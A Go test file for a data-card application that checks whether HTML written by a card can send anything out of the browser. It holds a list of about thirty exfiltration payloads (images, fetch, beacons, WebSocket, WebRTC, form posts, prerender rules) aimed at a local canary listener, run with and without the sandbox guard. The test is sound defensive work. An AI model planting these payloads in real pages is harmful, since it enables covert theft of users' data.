package apptest_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/karuta-bi/karuta/internal/app/apptest"
	"github.com/karuta-bi/karuta/internal/core"
)

// leaks are ways for a page to send something to the listener at %s, host and
// port. Each of them works in a page that is not guarded.
var leaks = map[string]string{
	"image":            `<img src="http://%s/">`,
	"style":            `<style>body { background: url(http://%s/) }</style>`,
	"style import":     `<style>@import url(http://%s/);</style>`,
	"font":             `<style>@font-face { font-family: f; src: url(http://%s/) } p { font-family: f }</style><p>text</p>`,
	"style sheet":      `<link rel=stylesheet href="http://%s/">`,
	"form":             `<form id=f action="http://%s/" method=post><input name=a value=1></form><script>f.submit()</script>`,
	"navigation":       `<script>location.href = "http://%s/"</script>`,
	"top navigation":   `<script>top.location.href = "http://%s/"</script>`,
	"meta refresh":     `<meta http-equiv=refresh content="0;url=http://%s/">`,
	"window":           `<script>window.open("http://%s/")</script>`,
	"link and ping":    `<a id=a href="http://%[1]s/" ping="http://%[1]s/" target=_blank>x</a><script>a.click()</script>`,
	"prefetch":         `<link rel=prefetch href="http://%s/">`,
	"preload":          `<link rel=preload as=image href="http://%s/">`,
	"module preload":   `<link rel=modulepreload href="http://%s/">`,
	"prerender":        `<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["http://%s/"]}]}</script>`,
	"fetch":            `<script>fetch("http://%s/", {mode: "no-cors"})</script>`,
	"fetch that lives": `<script>fetch("http://%s/", {method: "POST", mode: "no-cors", keepalive: true})</script>`,
	"request":          `<script>r = new XMLHttpRequest(); r.open("GET", "http://%s/"); r.send()</script>`,
	"beacon":           `<script>navigator.sendBeacon("http://%s/", "a")</script>`,
	"WebSocket":        `<script>new WebSocket("ws://%s/")</script>`,
	"event source":     `<script>new EventSource("http://%s/")</script>`,
	"worker":           `<script>new Worker(URL.createObjectURL(new Blob(["fetch('http://%s/')"])))</script>`,
	"script":           `<script src="http://%s/"></script>`,
	"script import":    `<script>import("http://%s/")</script>`,
	"object":           `<object data="http://%s/"></object>`,
	"frame":            `<iframe src="http://%s/"></iframe>`,
	"frame's script":   `<iframe srcdoc='<script>location.href = "http://%s/"</script>'></iframe>`,
	"media":            `<video src="http://%s/" autoplay></video>`,
	"drawing":          `<svg><image href="http://%s/"/></svg>`,
	"base":             `<base href="http://%s/"><img src="a">`,
	"WebRTC":           peer,
	"frame's WebRTC":   `<iframe srcdoc='` + peer + `'></iframe>`,
	"WebTransport":     `<script>new WebTransport("https://%s/")</script>`,
}

const peer = `<script>p = new RTCPeerConnection({iceServers: [{urls: "stun:%s"}]}); p.createDataChannel("a"); p.createOffer().then(o => p.setLocalDescription(o))</script>`

// Without Chromium's list of allowed connections these two reach for the
// listener's door before they are refused; nothing is said through it.
var reachesOnly = map[string]bool{"navigation": true, "meta refresh": true, "frame": true}

// Nothing that a card writes into its page leaves the browser: neither from the
// frame that shows it nor when its address is opened by itself, nor in a browser
// that knows content security policies alone. The same pages without any guard
// reach the listener every one, so each attack is a real one (CD-7).
func TestNothingLeavesACardsPage(t *testing.T) {
	apptest.NeedsPython(t)
	script := needsChromium(t)
	k := apptest.Start(t)
	author, _ := k.Somebody(t, core.RoleUser)
	dataset := author.ImportCSV(t, "numbers", "numbers.csv", strings.NewReader("a\n1\n"))
	w := &witness{}
	srv := httptest.NewServer(w)
	t.Cleanup(srv.Close)
	var pages []visit
	for name, html := range leaks {
		for _, v := range []visit{{Name: "bare"}, {Name: "guarded"}, {Name: "older", Off: "ConnectionAllowlists"}} {
			v.Name += " " + name
			c := w.listen(t, v.Name)
			card := fmt.Sprintf(html, c.address)
			if v.URL = srv.URL + "/bare?" + v.Name; !c.bare {
				v.URL = k.URL + cardPage(t, author, dataset, card)
			}
			c.html = card
			pages = append(pages, v)
		}
	}
	look(t, script, srv.URL, pages)
	for name, c := range w.canaries {
		switch _, attack, _ := strings.Cut(name, " "); {
		case c.bare && c.arrived() == nil:
			t.Errorf("%s does not leave an open page, so it proves nothing", attack)
		case c.bare || c.arrived() == nil:
		case strings.HasPrefix(name, "older") && reachesOnly[attack] && len(c.said()) == 0:
		default:
			t.Errorf("%s left the page: %q", name, c.said())
		}
	}
}

// cardPage is the address of the page of a card that answers the HTML.
func cardPage(t *testing.T, author apptest.Client, dataset, html string) string {
	t.Helper()
	code := fmt.Sprintf("def render(dataset, filters, params):\n    return %q\n", html)
	a := author.Must(t, `mutation($input: PreviewCardInput!) { previewCard(input: $input) { result { url } } }`,
		map[string]any{"input": map[string]any{"datasetId": dataset, "code": code}})
	return a.Str("previewCard.result.url")
}

// visit is a page to open, with the browser's features that are switched off.
type visit struct {
	Name string `json:"name"`
	URL  string `json:"url"`
	Off  string `json:"off,omitempty"`
}

func needsChromium(t *testing.T) (script string) {
	t.Helper()
	script, err := filepath.Abs("../../../tools/browser/leaks.mjs")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(script), "node_modules")); err != nil {
		t.Skip("not run here: tools/browser is not installed; run tools/install.sh")
	}
	if _, err := exec.LookPath("chromium"); err != nil {
		t.Skip("not run here: there is no Chromium (Debian: apt-get install chromium)")
	}
	return script
}

func look(t *testing.T, script, witness string, pages []visit) {
	t.Helper()
	list, err := json.Marshal(pages)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), "node", script, witness)
	cmd.Stdin = strings.NewReader(string(list))
	cmd.Stderr = t.Output()
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
}

// patience is how long an attack on a page without a guard may take.
const patience = 2 * time.Minute

// witness serves the pages without a guard and knows what arrived where.
type witness struct {
	mu       sync.Mutex
	canaries map[string]*canary
}

func (w *witness) ServeHTTP(out http.ResponseWriter, r *http.Request) {
	if name, ok := strings.CutPrefix(r.URL.Path, "/seen/"); ok {
		w.of(name).settle(r.Context())
		return
	}
	name := strings.ReplaceAll(r.URL.RawQuery, "%20", " ")
	if c := w.of(strings.ReplaceAll(name, "%27", "'")); c != nil {
		out.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(out, "<!doctype html><html><body>%s</body></html>", c.html)
	}
}

func (w *witness) of(name string) *canary {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.canaries[name]
}

// listen makes a canary of its own for one page.
func (w *witness) listen(t *testing.T, name string) *canary {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	udp, err := net.ListenPacket("udp", tcp.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	c := &canary{address: tcp.Addr().String(), bare: strings.HasPrefix(name, "bare"), hit: make(chan struct{})}
	var ended sync.WaitGroup
	ended.Go(func() { c.accept(tcp) })
	ended.Go(func() { c.read(udp) })
	t.Cleanup(func() { _, _ = tcp.Close(), udp.Close(); ended.Wait() })
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.canaries == nil {
		w.canaries = map[string]*canary{}
	}
	w.canaries[name] = c
	return c
}

// canary notices whatever reaches its port.
type canary struct {
	address string
	bare    bool // it belongs to a page without a guard, from which something must arrive
	html    string
	hit     chan struct{}

	mu     sync.Mutex
	closed bool
	words  []string
}

func (c *canary) accept(l net.Listener) {
	for {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		c.note("")
		go func() {
			defer func() { _ = conn.Close() }()
			_ = conn.SetDeadline(time.Now().Add(patience))
			line := make([]byte, 64)
			if n, _ := conn.Read(line); n > 0 {
				c.note(string(line[:n]))
			}
		}()
	}
}

func (c *canary) read(l net.PacketConn) {
	packet := make([]byte, 64)
	for {
		if _, _, err := l.ReadFrom(packet); err != nil {
			return
		}
		c.note("a packet")
	}
}

func (c *canary) note(words string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if words != "" {
		c.words = append(c.words, words)
	}
	if !c.closed {
		c.closed = true
		close(c.hit)
	}
}

func (c *canary) said() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.words
}

// arrived is nil while nothing has.
func (c *canary) arrived() <-chan struct{} {
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.closed {
		return nil
	}
	return c.hit
}

// settle waits for what must arrive. For what must not there is no event: the
// page is idle by then, and the packets of this machine to itself are there.
func (c *canary) settle(ctx context.Context) {
	if !c.bare {
		return
	}
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	select {
	case <-c.hit:
	case <-ctx.Done():
	}
}
